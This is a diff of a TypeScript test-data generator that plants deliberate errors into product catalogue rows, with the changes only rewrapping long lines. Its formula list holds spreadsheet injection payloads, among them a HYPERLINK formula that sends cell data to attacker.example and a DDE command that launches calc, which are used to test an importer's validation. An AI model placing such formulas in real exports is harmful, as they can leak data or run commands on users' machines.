@@ -20,12 +20,15 @@ export interface Planted {
 }
 type Cells = Record<Field, string>;
 
-const formulas = ['=HYPERLINK("http://attacker.example/?"&A1;"Price list")', '=cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd', '+1+1', '-2+3+cmd'];
+const formulas = ['=HYPERLINK("http://attacker.example/?"&A1;"Price list")', '=cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd', '+1+1',
+  '-2+3+cmd'];
 const notNumbers = ['on request', 'n/a', '12,50,00', 'Liên hệ'];
 const notUnits = ['XYZ', 'Kanister', 'xấp', '??'];
 
-const mistakes: Readonly<Record<Mistake, { readonly field: Field; readonly spoil: (random: Random, cells: Cells, layout: Layout, skuBefore: string) => string }>> = {
-  'bad check digit': { field: 'gtin', spoil: (_, { gtin }) => gtin.slice(0, -1) + String((Number(checkDigit(gtin.slice(0, -1))) + 3) % 10) },
+const mistakes: Readonly<Record<Mistake, { readonly field: Field; readonly spoil: (random: Random, cells: Cells, layout: Layout,
+  skuBefore: string) => string }>> = {
+  'bad check digit': { field: 'gtin', spoil: (_, { gtin }) => gtin.slice(0,
+    -1) + String((Number(checkDigit(gtin.slice(0, -1))) + 3) % 10) },
   'negative price': { field: 'price', spoil: (_, { price }) => `-${price}` },
   'price not a number': { field: 'price', spoil: (random) => random.pick(notNumbers) },
   'missing SKU': { field: 'sku', spoil: (random) => random.pick(['', '   ']) },
@@ -33,7 +36,8 @@ const mistakes: Readonly<Record<Mistake, { readonly field: Field; readonly spoil
   'unknown unit': { field: 'unit', spoil: (random) => random.pick(notUnits) },
   'missing title': { field: 'title', spoil: () => '' },
   formula: { field: 'title', spoil: (random) => random.pick(formulas) },
-  'NUL character': { field: 'description', spoil: (_, { description }) => `${description.slice(0, 12)}\0${description.slice(12)}` },
+  'NUL character': { field: 'description',
+    spoil: (_, { description }) => `${description.slice(0, 12)}\0${description.slice(12)}` },
 };
 export const mistakeKinds = Object.keys(mistakes) as Mistake[];
 
